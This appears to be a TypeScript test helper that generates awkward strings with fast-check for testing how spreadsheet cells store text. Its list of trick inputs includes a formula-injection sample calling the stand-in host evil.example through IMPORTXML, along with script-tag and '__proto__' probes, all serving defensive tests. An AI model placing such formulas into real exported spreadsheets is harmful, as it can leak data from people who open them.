/** How the properties of this folder are tried, and the texts they try. */
import fc from "fast-check";

/** The same cases in every run. */
export const tried = (numRuns: number) => ({ seed: 20_260_401, numRuns });

const tricks = [
	"=1+1",
	'=IMPORTXML("https://evil.example","//a")',
	"+44 20 7946 0000",
	"-2*3",
	"@SUM(1+9)",
	"'quoted",
	"''",
	"1/1/2026",
	"2026-01-01",
	"0123",
	"1e5",
	"5%",
	"£3",
	"TRUE",
	"#REF!",
	"{{partnerName}} $& $x %s",
	"</script><b>",
	"__proto__",
	"P-0001",
	"Zoë 👩‍👩‍👧 漢字",
];

const awkward = [
	..."=+-@'\"\\,;\t\n\r \u00a0\u2028\ufeff\u202e\u0000\u00010/:%£{}",
];

/** Any text at all, half characters and NUL included. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
	{ weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
	{ weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
	{
		weight: 4,
		arbitrary: fc.string({ unit: fc.constantFrom(...awkward), maxLength: 12 }),
	},
	{
		weight: 1,
		arbitrary: fc.string({
			unit: fc
				.integer({ min: 0, max: 0xffff })
				.map((code) => String.fromCharCode(code)),
			maxLength: 8,
		}),
	},
	{ weight: 3, arbitrary: fc.constantFrom(...tricks) },
	{
		weight: 1,
		arbitrary: fc
			.tuple(
				fc.constantFrom("x", "=", "é", "ab\n", "漢", "\t"),
				fc.constantFrom(45_000, 49_999, 50_000, 50_001),
			)
			.map(([unit, length]) => unit.repeat(length).slice(0, length)),
	},
);

/** What a cell can keep: up to 50,000 characters, no NUL, no half character. */
export const isKeepable = (text: string): boolean =>
	text.length <= 50_000 &&
	!text.includes("\0") &&
	Buffer.from(text, "utf8").toString("utf8") === text;
